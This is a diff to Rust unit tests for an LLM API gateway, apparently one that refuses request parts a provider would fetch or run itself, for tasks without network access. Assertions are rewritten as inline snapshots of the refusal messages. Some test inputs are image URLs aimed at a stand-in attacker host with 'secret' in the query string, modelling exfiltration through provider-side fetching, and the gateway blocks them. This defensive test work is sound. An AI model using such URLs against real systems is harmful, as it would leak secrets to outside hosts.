@@ -652,8 +652,7 @@ mod tests {
         let url_image = json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "image", "source": {"type": "url", "url": "http://attacker.example/x?secret=1"}}]}]});
         let e = refused(Wire::Messages, url_image.clone());
-        assert!(e.contains("messages[0].content[0].source"), "{e}");
-        assert!(e.contains("url"), "{e}");
+        insta::assert_snapshot!(e, @"messages[0].content[0].source: swarm's gateway does not pass a `url` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
         assert!(
             checked(Wire::Messages, url_image, true).is_ok(),
             "with the network it passes"
@@ -661,28 +660,46 @@ mod tests {
         let in_result = json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "tool_result", "tool_use_id": "1", "content": [
                 {"type": "document", "source": {"type": "url", "url": "http://x/doc.pdf"}}]}]}]});
-        assert!(refused(Wire::Messages, in_result).contains("content[0].content[0].source"));
+        insta::assert_snapshot!(refused(Wire::Messages, in_result), @"messages[0].content[0].content[0].source: swarm's gateway does not pass a `url` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
         let file = json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]});
-        assert!(refused(Wire::Messages, file).contains("`file` source"));
-        for block in [
+        insta::assert_snapshot!(refused(Wire::Messages, file), @"messages[0].content[0].source: swarm's gateway does not pass a `file` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
+        let blocks: Vec<String> = [
             "server_tool_use",
             "web_search_tool_result",
             "mcp_tool_use",
             "container_upload",
             "whatever_next",
-        ] {
+        ]
+        .into_iter()
+        .map(|block| {
             let body = json!({"model": "m", "messages": [{"role": "assistant", "content": [{"type": block}]}]});
-            assert!(refused(Wire::Messages, body).contains(&format!("`{block}` block")));
-        }
-        for key in ["mcp_servers", "container", "a_new_key"] {
-            let mut body = json!({"model": "m", "messages": []});
-            body[key] = json!([{"url": "http://x"}]);
-            assert!(refused(Wire::Messages, body).contains(&format!("`{key}`")));
-        }
+            refused(Wire::Messages, body)
+        })
+        .collect();
+        insta::assert_snapshot!(blocks.join("\n"), @"
+        messages[0].content[0]: swarm's gateway does not pass a `server_tool_use` block here (what the provider would run or fetch itself is not for a task)
+        messages[0].content[0]: swarm's gateway does not pass a `web_search_tool_result` block here (what the provider would run or fetch itself is not for a task)
+        messages[0].content[0]: swarm's gateway does not pass a `mcp_tool_use` block here (what the provider would run or fetch itself is not for a task)
+        messages[0].content[0]: swarm's gateway does not pass a `container_upload` block here (what the provider would run or fetch itself is not for a task)
+        messages[0].content[0]: swarm's gateway does not pass a `whatever_next` block here (what the provider would run or fetch itself is not for a task)
+        ");
+        let keys: Vec<String> = ["mcp_servers", "container", "a_new_key"]
+            .into_iter()
+            .map(|key| {
+                let mut body = json!({"model": "m", "messages": []});
+                body[key] = json!([{"url": "http://x"}]);
+                refused(Wire::Messages, body)
+            })
+            .collect();
+        insta::assert_snapshot!(keys.join("\n"), @"
+        swarm's gateway does not pass `mcp_servers`: a task's model calls reach the model only, with what the gateway knows to stay there
+        swarm's gateway does not pass `container`: a task's model calls reach the model only, with what the gateway knows to stay there
+        swarm's gateway does not pass `a_new_key`: a task's model calls reach the model only, with what the gateway knows to stay there
+        ");
         let field = json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "text", "text": "t", "fetch": "http://x"}]}]});
-        assert!(refused(Wire::Messages, field).contains("field `fetch`"));
+        insta::assert_snapshot!(refused(Wire::Messages, field), @"messages[0].content[0]: swarm's gateway does not pass the field `fetch` here");
     }
 
     #[test]
@@ -697,42 +714,59 @@ mod tests {
                 {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "t", "annotations": []}]}]});
         let passed = checked(Wire::Responses, body, false).unwrap();
         assert_eq!(passed["store"], json!(false));
-        for (item, what) in [
-            (
-                json!({"type": "input_image", "image_url": "https://x/y.png"}),
-                "image by URL",
-            ),
-            (
-                json!({"type": "input_file", "file_url": "https://x/y.pdf"}),
-                "`file_url`",
-            ),
-            (
-                json!({"type": "input_image", "file_id": "file_1"}),
-                "`file_id`",
-            ),
-        ] {
+        let parts: Vec<String> = [
+            json!({"type": "input_image", "image_url": "https://x/y.png"}),
+            json!({"type": "input_file", "file_url": "https://x/y.pdf"}),
+            json!({"type": "input_image", "file_id": "file_1"}),
+        ]
+        .into_iter()
+        .map(|item| {
             let body = json!({"model": "m", "input": [{"role": "user", "content": [item]}]});
-            assert!(refused(Wire::Responses, body).contains(what));
-        }
-        for item in [
+            refused(Wire::Responses, body)
+        })
+        .collect();
+        insta::assert_snapshot!(parts.join("\n"), @"
+        input[0].content[0]: swarm's gateway does not pass an image by URL for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
+        input[0].content[0]: swarm's gateway does not pass a `file_url` for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
+        input[0].content[0]: swarm's gateway does not pass a `file_id` for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
+        ");
+        let items: Vec<String> = [
             "item_reference",
             "web_search_call",
             "mcp_call",
             "computer_call_output",
-        ] {
+        ]
+        .into_iter()
+        .map(|item| {
             let body = json!({"model": "m", "input": [{"type": item, "id": "x"}]});
-            assert!(refused(Wire::Responses, body).contains(&format!("`{item}` item")));
-        }
-        for key in [
+            refused(Wire::Responses, body)
+        })
+        .collect();
+        insta::assert_snapshot!(items.join("\n"), @"
+        input[0]: swarm's gateway does not pass a `item_reference` item (what the provider would run, fetch or look up itself is not for a task)
+        input[0]: swarm's gateway does not pass a `web_search_call` item (what the provider would run, fetch or look up itself is not for a task)
+        input[0]: swarm's gateway does not pass a `mcp_call` item (what the provider would run, fetch or look up itself is not for a task)
+        input[0]: swarm's gateway does not pass a `computer_call_output` item (what the provider would run, fetch or look up itself is not for a task)
+        ");
+        let keys: Vec<String> = [
             "previous_response_id",
             "background",
             "conversation",
             "prompt",
-        ] {
+        ]
+        .into_iter()
+        .map(|key| {
             let mut body = json!({"model": "m", "input": "x"});
             body[key] = json!("x");
-            assert!(refused(Wire::Responses, body).contains(&format!("`{key}`")));
-        }
+            refused(Wire::Responses, body)
+        })
+        .collect();
+        insta::assert_snapshot!(keys.join("\n"), @"
+        swarm's gateway does not pass `previous_response_id`: a task's model calls reach the model only, with what the gateway knows to stay there
+        swarm's gateway does not pass `background`: a task's model calls reach the model only, with what the gateway knows to stay there
+        swarm's gateway does not pass `conversation`: a task's model calls reach the model only, with what the gateway knows to stay there
+        swarm's gateway does not pass `prompt`: a task's model calls reach the model only, with what the gateway knows to stay there
+        ");
     }
 
     #[test]
@@ -747,9 +781,9 @@ mod tests {
         assert_eq!(checked(Wire::Chat, body, false).unwrap()["n"], json!(1));
         let url = json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "image_url", "image_url": {"url": "http://attacker.example/?q=secret"}}]}]});
-        assert!(refused(Wire::Chat, url.clone()).contains("image by URL"));
+        insta::assert_snapshot!(refused(Wire::Chat, url.clone()), @"messages[0].content[0]: swarm's gateway does not pass an image by URL for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
         assert!(checked(Wire::Chat, url, true).is_ok());
         let body = json!({"model": "m", "messages": [], "web_search_options": {}});
-        assert!(refused(Wire::Chat, body).contains("`web_search_options`"));
+        insta::assert_snapshot!(refused(Wire::Chat, body), @"swarm's gateway does not pass `web_search_options`: a task's model calls reach the model only, with what the gateway knows to stay there");
     }
 }
